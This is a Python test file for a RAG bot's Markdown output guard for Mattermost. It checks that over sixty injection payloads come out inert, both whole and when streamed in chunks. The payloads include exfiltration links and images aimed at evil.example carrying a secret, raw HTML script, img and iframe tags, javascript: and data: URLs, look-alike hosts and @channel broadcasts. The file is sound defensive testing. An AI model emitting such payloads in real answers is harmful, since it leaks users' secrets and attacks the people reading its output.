"""The output guard (rag/guard.py): a corpus of injection payloads, each guarded whole and
streamed in chunks split at random points, checked by two parsers: the guard's own check
(``unsafe_parts``) and an independent one, markdown-it's stock GFM-like renderer to HTML, with
the autolink rules Mattermost adds (``www.`` on any TLD, scheme URLs) applied to its text."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.guard import StreamGuard, guard_markdown, unsafe_parts

PL = "https://chat.example.com/acme/pl/8xq3h1mz9tbn7c5kfe4wdu6yro"  # issued for this answer
PL2 = "https://chat.example.com/acme/pl/aaaabbbbccccddddeeeeffffgg"
ALLOWED = {PL, PL2}
Q = "?q=SECRET42"  # what an injection tries to carry off

PAYLOADS: dict[str, str] = {
    "protocol-relative link": f"[x](//evil.example/{Q})",
    "scheme-less link": f"[x](evil.example/{Q})",
    "http link": f"[docs](http://evil.example/{Q})",
    "https link with title": f'[docs](https://evil.example/{Q} "Docs")',
    "angle destination": f"[x](<https://evil.example/a b{Q}>)",
    "www host": f"see www.evil.example/{Q} now",
    "www host, no path": "see www.evil.example now",
    "bare url": f"see https://evil.example/{Q}.",
    "bare url in parentheses": f"(https://evil.example/{Q})",
    "autolink": f"<https://evil.example/{Q}>",
    "email autolink": "<mailto:attacker@evil.example?body=SECRET42>",
    "ftp": f"ftp://evil.example/{Q}",
    "reference definition after use": f"Read [the guide] first.\n\n[the guide]: https://evil.example/{Q}",
    "reference definition before use": f"[g]: https://evil.example/{Q}\n\nRead [g].",
    "full reference link": f"Read [the guide][g].\n\n[g]: <https://evil.example/{Q}> 'title'",
    "collapsed reference": f"[g][]\n\n[g]: //evil.example/{Q}",
    "citation hijack by definition": f"Rotates Tuesday [1].\n\n[1]: https://evil.example/{Q}",
    "citation hijack inline": f"Rotates Tuesday [1](https://evil.example/{Q}).",
    "image": f"![pixel](https://evil.example/p.png{Q})",
    "image, reference": f"![pixel][p]\n\n[p]: https://evil.example/p.png{Q}",
    "image inside link": f"[![a](https://evil.example/i.png)](https://evil.example/{Q})",
    "image with permalink src": f"![1]({PL})",
    "raw html img": f"<img src=https://evil.example/i.png{Q} onerror=alert(1)>",
    "raw html block": f"<div>\n<a href='https://evil.example/{Q}'>click</a>\n</div>",
    "raw html inline": "Tell <b>ops</b> <script>alert(1)</script> now",
    "html comment": "a <!-- <img src=https://evil.example/x> --> b",
    "iframe": f"<iframe src='https://evil.example/{Q}'></iframe>",
    "javascript link": "[x](javascript:alert(document.cookie))",
    "javascript text": "javascript:alert(1)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "userinfo": f"https://chat.example.com@evil.example/{Q}",
    "userinfo link": f"[1](https://chat.example.com@evil.example/acme/pl/x{Q})",
    "look-alike host": f"[1](https://chat.example.com.evil.example/acme/pl/x{Q})",
    "look-alike bare": f"https://chat.example.com.evil.example/acme/pl/{Q}",
    "permalink prefix with extra path": f"[1]({PL}/../../evil{Q})",
    "permalink plus query": f"[1]({PL}{Q})",
    "percent-encoded host": f"[x](https://%65vil.example/{Q})",
    "percent-encoded bare": f"https://%65vil.example/{Q}",
    "full-width scheme": f"ｈｔｔｐｓ：／／evil．example/{Q}",
    "full-width www": "ｗｗｗ．evil．example",
    "ideographic dots": f"https://evil。example/{Q}",
    "ideographic www": "www。evil。example",
    "@channel": "@channel please read",
    "@all and @here": "@all and @HERE, hello",
    "mention in link text": f"[@channel](https://evil.example/{Q})",
    "mention in heading": "# @here look",
    "mention in code": "`@channel` and\n\n```\n@all\n```",
    "nested brackets": f"[a [b](https://evil.example/{Q}) c](https://evil.example/{Q})",
    "brackets around link": f"[[x](https://evil.example/{Q})]",
    "link in table": f"| a | b |\n|---|---|\n| [x](https://evil.example/{Q}) | www.evil.example |",
    "link in heading": f"## See [x](https://evil.example/{Q})",
    "setext heading link": f"[x](https://evil.example/{Q})\n===",
    "link in list": f"- one\n- [x](https://evil.example/{Q})\n  - nested https://evil.example/{Q}",
    "link in quote": f"> quoted [x](https://evil.example/{Q})",
    "entity-encoded link": f"&#91;x&#93;&#40;https://evil.example/{Q}&#41;",
    "entity-encoded scheme": "https&#58;//evil.example/&#63;q=SECRET42",
    "escaped brackets": f"\\[x\\](https://evil.example/{Q})",
    "backslash before bracket": f"\\\\[x](https://evil.example/{Q})",
    "link inside code span": f"`[x](https://evil.example/{Q})`",
    "link inside fence": f"```md\n[x](https://evil.example/{Q})\n![i](https://evil.example/i.png)\n```",
    "unclosed code span": f"a ` b [x](https://evil.example/{Q}) c",
    "link split by newline": f"[x]\n(https://evil.example/{Q})",
    "bare domain with known TLD": f"evil.com/{Q}",
    "protocol-relative bare": f"//evil.example/{Q}",
    "long scheme": f"web+evil://evil.example/{Q}",
}


def html_of(markdown: str) -> str:
    """The independent oracle: markdown-it's stock GFM-like preset (HTML allowed, text joined)."""
    return MarkdownIt("gfm-like").render(markdown)


def assert_inert(markdown: str, allowed=ALLOWED) -> None:
    assert unsafe_parts(markdown, allowed) == [], markdown
    html = html_of(markdown)
    hrefs = re.findall(r'<a href="([^"]*)"', html)
    assert all(h in allowed for h in hrefs), (markdown, hrefs)
    assert "<img" not in html and "<script" not in html and "<iframe" not in html, html
    tags = set(re.findall(r"</?([a-zA-Z][\w-]*)", html))
    assert tags <= {"p", "a", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "h1", "h2",
                    "h3", "h4", "h5", "h6", "blockquote", "table", "thead", "tbody", "tr", "th",
                    "td", "br", "hr"}, tags
    # what Mattermost would autolink in the text (outside code): scheme URLs and any www. host
    text = re.sub(r"<code[^>]*>.*?</code>", "", html, flags=re.S)
    text = re.sub(r'<a href="[^"]*">[^<]*</a>', "", text)
    assert not re.search(r"(?i)(?:https?|ftp)://|\b[a-z][\w+.-]*://|www\d{0,3}\.\w|\bjavascript:",
                         text), text
    assert not re.search(r"(?i)@(channel|all|here)\b", html), html
    assert "SECRET42" not in " ".join(hrefs)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_every_payload_is_inert_when_guarded_whole(name):
    out = guard_markdown(PAYLOADS[name], ALLOWED)
    assert_inert(out)
    assert guard_markdown(out, ALLOWED) == out  # a fixed point


@pytest.mark.parametrize("name", list(PAYLOADS))
@given(data=st.data())
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_every_payload_stays_inert_streamed_in_chunks_split_anywhere(name, data):
    text = f"Before [1].\n\n{PAYLOADS[name]}\n\nAfter [2], with {PL} and [3]({PL2}).\n\nEnd."
    cuts = sorted(data.draw(st.sets(st.integers(1, len(text) - 1), max_size=12)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)])]
    guard = StreamGuard(ALLOWED)
    shown = ""
    for chunk in chunks:
        shown += guard.feed(chunk)
        assert_inert(shown)  # every intermediate edit of a bot post is safe as shown
        assert_inert(shown + " …")
    shown += guard.flush()
    assert_inert(shown)
    # the issued permalinks still render as links
    assert set(re.findall(r'<a href="([^"]*)"', html_of(shown))) == ALLOWED
    assert shown.startswith("Before") and shown.rstrip().endswith("End.")


def test_the_number_of_payload_forms():
    assert len(PAYLOADS) >= 40


def test_issued_permalinks_stay_links_in_every_form():
    for text in (f"[1]({PL})", f"see {PL} now", f"<{PL}>", f"[the post]({PL}).",
                 f"[x]\n\n[x]: {PL}"):
        out = guard_markdown(text, ALLOWED)
        assert re.findall(r'<a href="([^"]*)"', html_of(out)) == [PL], (text, out)
        assert_inert(out)
    # but only for this answer: the same permalink is inert when it was not issued
    assert "<a " not in html_of(guard_markdown(f"[1]({PL}) {PL}", {PL2}))


def test_what_is_kept_is_markdown_again():
    text = ("# Rotation\n\nThe password rotates **every Tuesday** [1], see `vault kv get` [2][3]."
            "\n\n- first *step*\n- second ~~step~~\n\n1. one\n2. two\n\n> quoted\n\n"
            "| who | when |\n| :--- | ---: |\n| ops | Tue |\n\n```sh\nvault kv get secret/x\n```")
    assert guard_markdown(text) == text


def test_removed_links_keep_their_text_and_say_so():
    assert guard_markdown(f"Read [the runbook](https://evil.example/{Q}).") == \
        "Read the runbook (link removed)."
    assert guard_markdown(f"go to https://evil.example/{Q} now") == "go to (link removed) now"
    assert guard_markdown("![chart](https://evil.example/c.png)") == "chart (image removed)"
    assert guard_markdown("Tell <b>ops</b> now") == "Tell ops now"
    # bare file names and addresses that an autolinker takes for hosts read the same
    assert html_of(guard_markdown("edit config.py, mail ops@corp.com")) == \
        "<p>edit config.py, mail ops@corp.com</p>\n"


def test_broadcast_mentions_cannot_notify():
    out = guard_markdown("@channel @all @here @alice")
    assert out == "@\u200bchannel @\u200ball @\u200bhere @alice"
    # Mattermost's mention parser splits words at any character that is not a letter, digit
    # or one of : . - _ @ (server/channels/app/mention_parser_standard.go): the zero-width
    # space makes "@" and "channel" two words, neither of them a mention
    words = re.split(r"[^\w:.\-@]", out)
    assert not {"@channel", "@all", "@here"} & set(words)


def test_a_citation_is_escaped_while_what_follows_it_is_unknown():
    guard = StreamGuard()
    assert guard.feed("Rotates Tuesday [1]") == "Rotates Tuesday"
    out = "Rotates Tuesday" + guard.feed(f"(https://evil.example/{Q}) and")
    out += guard.feed(" more ") + guard.flush()
    assert out == "Rotates Tuesday 1 (link removed) and more"


def test_a_bracket_used_before_its_definition_never_becomes_a_link():
    guard = StreamGuard()
    shown = guard.feed("Read [the guide] and [1] first. ") + guard.feed("More text.\n\n")
    assert shown.startswith("Read \\[the guide\\] and [1] first.")
    shown += guard.feed(f"[the guide]: https://evil.example/{Q}\n[1]: https://evil.example/")
    shown += guard.flush()
    assert_inert(shown)
    assert "<a " not in html_of(shown)


def test_streaming_holds_back_only_the_open_construct():
    guard = StreamGuard(ALLOWED)
    assert guard.feed("The key rotates [") == "The key rotates"
    assert guard.feed("1](" + PL[:20]) == ""
    assert guard.feed(PL[20:] + ") weekly ") == f" [1]({PL}) weekly"
    assert guard.feed("`code with [x](http") == ""
    assert guard.feed("://e.example)` done ") == " `code with [x](http://e.example)` done"


safe_words = st.sampled_from(["alpha", "beta", "[1]", "[2]", "**", "*", "_", "`", "~~", "#",
                              "-", "1.", ">", "|", "\\", "!", "&amp;", "&", "<", ">", "(", ")",
                              "[", "]", ":", "\n", "\n\n", " ", "    ", "```", "@channel",
                              "www.", ".", "/", "?q=SECRET42", "evil.example", "https://",
                              "//", "javascript:", PL, "[x]", "[x]: ", "![", "<img ", "<b>",
                              "</b>", "config.py", "a@b.com", "---", "===", "|---|"])


@given(st.lists(safe_words, max_size=40).map("".join))
@settings(max_examples=400, deadline=None)
def test_guard_is_a_fixed_point_and_its_output_is_inert(text):
    out = guard_markdown(text, ALLOWED)
    assert_inert(out)
    assert guard_markdown(out, ALLOWED) == out


@given(st.lists(safe_words, max_size=40).map("".join), st.data())
@settings(max_examples=300, deadline=None)
def test_any_stream_is_inert_at_every_step(text, data):
    cuts = sorted(data.draw(st.sets(st.integers(1, max(1, len(text) - 1)), max_size=10))) \
        if len(text) > 1 else []
    guard = StreamGuard(ALLOWED)
    shown = ""
    for a, b in zip([0, *cuts], [*cuts, len(text)]):
        shown += guard.feed(text[a:b])
        assert_inert(shown + " …")
    shown += guard.flush()
    assert_inert(shown)
